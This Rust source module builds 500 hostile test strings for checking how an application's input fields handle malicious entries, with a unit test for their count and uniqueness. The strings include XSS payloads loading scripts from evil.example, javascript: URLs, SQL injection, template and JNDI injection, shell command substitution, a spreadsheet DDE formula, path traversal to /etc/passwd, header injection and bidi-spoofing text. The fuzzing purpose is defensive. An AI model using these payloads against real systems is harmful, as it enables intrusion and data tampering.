//! What customers, third parties and attackers might write into a field: 500 strings, made here from parts.

/// How many there are.
pub(crate) const COUNT: usize = 500;

/// What a string may have to get out of first.
const OPENERS: [&str; 12] = [
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "`>",
    "-->",
    "</title>",
    "</pre>",
    "</script>",
    "</textarea></select>",
    "]]>",
];
/// What runs, loads or leads away, where markup is taken as such. `N` becomes the number of the string.
const MARKUP: [&str; 24] = [
    "<script>alert(N)</script>",
    "<script src=//evil.example/N.js></script>",
    "<ScRiPt\u{b}>alert(N)//",
    "<img src=x onerror=alert(N)>",
    "<img/src=//evil.example/N/onload='alert(N)'>",
    "<svg onload=alert(N)>",
    "<svg><animate onbegin=alert(N) attributeName=x dur=1s>",
    "<svg><script href=data:,alert(N) />",
    "<iframe srcdoc='<script>parent.alert(N)</script>'></iframe>",
    "<iframe src=javascript:alert(N)></iframe>",
    "<object data=javascript:alert(N)></object>",
    "<details open ontoggle=alert(N)><summary>more</summary></details>",
    "<input autofocus onfocus=alert(N)>",
    "<video><source onerror=alert(N)></video>",
    "<math><mi xlink:href='javascript:alert(N)'>N</mi></math>",
    "<a href=javascript:alert(N)>All of them</a>",
    "<style>*{background:url(//evil.example/N)}</style>",
    "<link rel=stylesheet href=//evil.example/N.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/N'>",
    "<base href=//evil.example/N/>",
    "<form action=//evil.example/N><button>Retry all</button></form>",
    "<template><p id=main></template><dialog open id=keys>N",
    " autofocus onfocus=alert(N) x=",
    " style=background:url(//evil.example/N) onmouseover=alert(N) ",
];
/// Addresses that must not become links as they are.
const ADDRESSES: [&str; 12] = [
    "javascript:alert(N)",
    "JaVaScRiPt:alert(N)",
    "java\tscript:alert(N)",
    "\u{1}javascript:alert(N)",
    "data:text/html,<script>alert(N)</script>",
    "vbscript:msgbox(N)",
    "//evil.example/N",
    "\\\\evil.example\\N",
    "https://evil.example/N?next=../console/",
    "../../../../etc/passwd",
    "..%2f..%2fconsole/logout",
    "file:///etc/passwd",
];
/// What templates, formats, shells and databases might read.
const CODE: [&str; 36] = [
    "{{ N * 7 }}",
    "{{constructor.constructor('alert(N)')()}}",
    "{% include \"frame.html\" %}",
    "{# N #}",
    "${N * 7}",
    "#{N * 7}",
    "<%= N * 7 %>",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "${jndi:ldap://evil.example/N}",
    "%n%s%p%x",
    "{0} {} {:?}",
    "%00%0a%0d%3Cscript%3E",
    "\\x3cscript\\x3ealert(N)\\x3c/script\\x3e",
    "\\u003cscript\\u003e",
    "&lt;script&gt;alert(N)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(N)&#62;",
    "&amp;lt;b&amp;gt;",
    "+ADw-script+AD4-alert(N)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(N)",
    "'; DROP TABLE syncline.jobs; --",
    "' OR '1' = '1",
    "\\'; SELECT pg_sleep(N); --",
    "%' AND 1=1 --",
    "_%\\_%",
    "$1 $$ $tag$",
    "(.*a){N}",
    "[[:alpha:]]{",
    "$(id) `id` | id; id",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*N",
    "Set-Cookie: syncline=N",
    "x\r\nlocation: //evil.example/N",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;N\u{7}",
    "null",
    "__proto__",
    "-9223372036854775808",
];
/// Writing that goes another way, joins what stands beside it, or is not seen.
const WRITING: [&str; 30] = [
    "\u{202e}txt.exe N",
    "\u{2066}\u{202e}evil\u{2069}",
    "\u{202d}\u{202e}\u{202d}N",
    "a\u{200b}b\u{200c}c\u{200d}d",
    "\u{feff}N",
    "\u{2028}N\u{2029}",
    "\u{85}N\u{a0}",
    "\u{3164}\u{115f}",
    "مرحبا بالعالم N",
    "שלום עולם N",
    "株式会社あさひ N",
    "Ünïcödé İstanbul ß ﬃ N",
    "Z\u{351}\u{36b}\u{343}a\u{328}\u{321}l\u{34d}\u{33a}g\u{333}o N",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466} N",
    "\u{1f1e9}\u{1f1ea}\u{1f1e9} N",
    "\u{1f44d}\u{1f3fe}\u{fe0f} N",
    "\u{fffd}\u{fffc}\u{fffe}",
    "\u{10ffff}N",
    "\u{e000}\u{f8ff}",
    "\u{e0041}\u{e007f}",
    "ꧾ﷽𒐫 N",
    "𝕳𝖊𝖑𝖑𝖔 N",
    "¿¡§±µ N",
    "N\u{300}\u{301}\u{302}",
    "\u{ad}soft\u{ad}hy\u{ad}phen N",
    "  two  spaces  N  x",
    "tab\tstop\tN",
    "line\nbreak\nN",
    "carriage\rreturn N",
    "\u{c}form feed N",
];

/// All of them, each different from the others.
pub(crate) fn all() -> Vec<String> {
    let markup = OPENERS
        .iter()
        .flat_map(|opener| MARKUP.map(|body| format!("{opener}{body}")));
    let plain = [&ADDRESSES[..], &CODE, &WRITING].concat();
    let plain = plain.into_iter().map(str::to_owned);
    // All control characters that a text in Postgres can hold.
    let controls = ('\u{1}'..='\u{1f}').chain('\u{7f}'..='\u{9f}');
    let controls = controls.map(|control| format!("before{control}after N"));
    let mut strings: Vec<String> = markup.chain(plain).chain(controls).collect();
    strings.extend(long());
    // The rest stand in attributes and addresses at once.
    let mut rest = OPENERS
        .iter()
        .cycle()
        .zip(ADDRESSES.iter().cycle().step_by(5));
    while strings.len() < COUNT {
        let (opener, address) = rest.next().expect("it goes round");
        strings.push(format!("x{opener} href={address} N"));
    }
    let numbered = strings.iter().enumerate();
    numbered
        .map(|(number, string)| string.replace('N', &(number + 1).to_string()))
        .collect()
}

/// Longer than any row.
fn long() -> Vec<String> {
    let parts = [
        "x",
        "W",
        "word ",
        "\u{1f600}",
        "<b>",
        "&",
        "'\"",
        "\u{202e}",
        "%",
        "a\u{301}",
        "-",
        "https://a.example/",
    ];
    parts
        .map(|part| format!("N{}", part.repeat(900 / part.len())))
        .to_vec()
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn there_are_five_hundred_different_ones() {
        let strings = all();
        assert_eq!(strings.len(), COUNT);
        assert_eq!(strings.iter().collect::<HashSet<_>>().len(), COUNT);
        assert!(strings.iter().all(|string| !string.contains('\0')));
    }
}
